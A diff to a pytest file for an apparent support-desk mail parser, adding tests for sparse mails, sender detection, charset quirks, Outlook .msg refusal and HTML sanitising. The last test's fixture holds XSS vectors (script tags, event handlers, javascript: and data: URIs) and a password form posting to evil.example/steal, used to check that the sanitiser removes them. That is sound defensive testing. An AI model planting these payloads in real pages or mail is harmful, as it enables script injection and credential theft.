@@ -1,6 +1,7 @@
 """Mail as it really arrives (issue 19): a generic status gives way to the server's specific one, a report
-about one recipient of a message sent to several marks that recipient only, read receipts are automatic, and
-a person writing from postmaster@ is a person writing."""
+about one recipient of a message sent to several marks that recipient only, read receipts are automatic, a
+person writing from postmaster@ is a person writing, a subject or an image alone still reaches a case, the
+sender is found where clients really put it, and charsets are read as clients mean them."""
 
 import pytest
 
@@ -8,6 +9,8 @@ from frontline.cases.models import Case
 from frontline.core import clock
 from frontline.customers import services as customers
 from frontline.delivery.models import DeliveryAttempt
+from frontline.intake.mail import UnreadableMail
+from frontline.intake.mail import parse as mail_parse
 from frontline.intake.models import RawStatus
 from frontline.intake.tests.helpers import deliver, mail, sent_to
 
@@ -135,3 +138,131 @@ def test_a_person_writing_from_postmaster_reaches_a_case(sam, sam_person):
         mail(sender="Sam Walker <postmaster@walkerblog.example>", subject="Our MX rejects your relay")
     )
     assert row.status == RawStatus.PROCESSED and row.case.customer == sam
+
+
+# ---- item 6: a subject and nothing else, or an image and nothing else, is still someone writing ----------
+
+
+def test_a_mail_with_only_a_subject_reaches_a_case(sam):
+    raw = b"From: Sam Walker <sam@walkerblog.example>\r\nTo: support@frontline.invalid\r\n"
+    raw += b"Subject: Server down\r\n\r\n"
+    row = deliver(raw)
+    assert row.status == RawStatus.PROCESSED and row.case.subject == "Server down"
+    assert row.case.messages.get().body_text == "Server down"
+
+
+def test_a_mail_with_only_an_image_reaches_a_case_with_the_image(sam):
+    raw = (
+        b"From: Sam Walker <sam@walkerblog.example>\r\nTo: support@frontline.invalid\r\nSubject: \r\n"
+        b"MIME-Version: 1.0\r\nContent-Type: image/png\r\nContent-Transfer-Encoding: base64\r\n\r\n"
+        b"iVBORw0KGgo=\r\n"
+    )
+    row = deliver(raw)
+    assert row.status == RawStatus.PROCESSED
+    assert row.case.messages.get().attachments.get().content_type == "image/png"
+
+
+# ---- item 7: finding the sender --------------------------------------------------------------------------
+
+
+def test_a_broken_first_from_gives_way_to_the_second(sam):
+    raw = (
+        b"From: <>\r\nFrom: Sam Walker <sam@walkerblog.example>\r\nTo: support@frontline.invalid\r\n"
+        b"Subject: Blog down\r\n\r\n503 again\r\n"
+    )
+    row = deliver(raw)
+    assert row.status == RawStatus.PROCESSED and row.case.customer == sam
+
+
+def test_no_from_but_a_reply_to_names_the_sender(sam):
+    raw = (
+        b"Reply-To: Sam Walker <sam@walkerblog.example>\r\nTo: support@frontline.invalid\r\n"
+        b"Subject: Blog down\r\n\r\n503 again\r\n"
+    )
+    row = deliver(raw)
+    assert row.status == RawStatus.PROCESSED and row.case.customer == sam
+
+
+def test_a_name_given_as_a_comment_is_kept():
+    parsed = mail_parse(
+        b"From: marc.smith@example.com (Marc Smith)\r\nTo: s@x.example\r\nSubject: Hi\r\n\r\nhello\r\n"
+    )
+    assert (parsed.from_name, parsed.from_address) == ("Marc Smith", "marc.smith@example.com")
+
+
+# ---- item 8: charsets as clients use them, and files that are not mail -------------------------------------
+
+
+def test_a_gb2312_label_over_gbk_bytes_reads_as_the_sender_wrote_it():
+    # 服 and 务 are in GB2312; 剙 (0x84 0x80) is only in GBK, which mail clients send under the GB2312 label
+    raw = (
+        b"From: li@example.cn\r\nTo: s@x.example\r\nSubject: =?GB2312?B?xOO6w7f+zvHG9w==?=\r\n"
+        b"Content-Type: text/plain; charset=gb2312\r\n\r\n\xb7\xfe\xce\xf1\x84\x80\r\n"
+    )
+    parsed = mail_parse(raw)
+    assert parsed.subject == "你好服务器" and parsed.text == "服务剙"
+
+
+def test_latin1_labelled_windows_1252_and_an_8bit_attachment_name():
+    raw = (
+        "From: Kunde <kunde@example.de>\r\nTo: s@x.example\r\nSubject: Anhang\r\nMIME-Version: 1.0\r\n"
+        'Content-Type: multipart/mixed; boundary="b"\r\n\r\n'
+        "--b\r\nContent-Type: text/plain; charset=iso-8859-1\r\n\r\nGr\xfc\xdfe \u20ac 5\r\n"
+        "--b\r\nContent-Type: application/pdf\r\n"
+        'Content-Disposition: attachment; filename="Pr\xfcfbericht.pdf"\r\n'
+        "Content-Transfer-Encoding: base64\r\n\r\nJVBERi0=\r\n--b--\r\n"
+    ).encode("cp1252")  # the euro sign is 0x80 in Windows-1252, a control character in ISO-8859-1
+    parsed = mail_parse(raw)
+    assert parsed.text == "Grüße € 5" and parsed.attachments[0].filename == "Prüfbericht.pdf"
+
+
+def test_an_outlook_msg_file_is_refused_for_what_it_is():
+    with pytest.raises(UnreadableMail, match=r"Outlook \.msg"):
+        mail_parse(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 512)
+
+
+# ---- item 12: hostile HTML ------------------------------------------------------------------------------
+
+HOSTILE = """<html><head><style>body{background:url(javascript:alert(1))}</style>
+<script>alert('script')</script></head><body onload="alert('onload')">
+<p style="width: expression(alert('css'))">Hello</p>
+<a href="javascript:alert('link')">click</a> <a href="JaVaScRiPt:alert(2)">again</a>
+<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data link</a>
+<img src="x" onerror="alert('img')"><img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">
+<svg><script>alert('svg')</script></svg><math><mtext><script>alert(3)</script></mtext></math>
+<form action="https://evil.example/steal"><input name="password" type="password"><button>Go</button></form>
+<iframe src="https://evil.example/"></iframe><object data="x.swf"></object><embed src="x.swf">
+<meta http-equiv="refresh" content="0;url=https://evil.example/"><base href="https://evil.example/">
+<img src="https://tracker.example/pixel.gif" width="1" height="1"> the end</body></html>"""
+
+
+def test_hostile_html_keeps_the_words_and_loses_everything_that_runs_or_reaches_out():
+    raw = (
+        b"From: someone@example.net\r\nTo: s@x.example\r\nSubject: Invoice\r\nMIME-Version: 1.0\r\n"
+        b"Content-Type: text/html; charset=utf-8\r\n\r\n" + HOSTILE.encode()
+    )
+    parsed = mail_parse(raw)
+    html = parsed.html.lower()
+    for runs in (
+        "<script",
+        "onload",
+        "onerror",
+        "javascript:",
+        "expression(",
+        "<iframe",
+        "<form",
+        "<input",
+        "<object",
+        "<embed",
+        "<meta",
+        "<base",
+        "data:text/html",
+        "data:image/svg",
+        "<style",
+        "<svg",
+    ):
+        assert runs not in html, runs
+    assert "hello" in html and "the end" in html and "click" in html
+    # a remote image is kept: the case page shows it as a placeholder until an agent loads it
+    assert "tracker.example" in html
+    assert "hello" in parsed.text.lower() and "alert" not in parsed.text
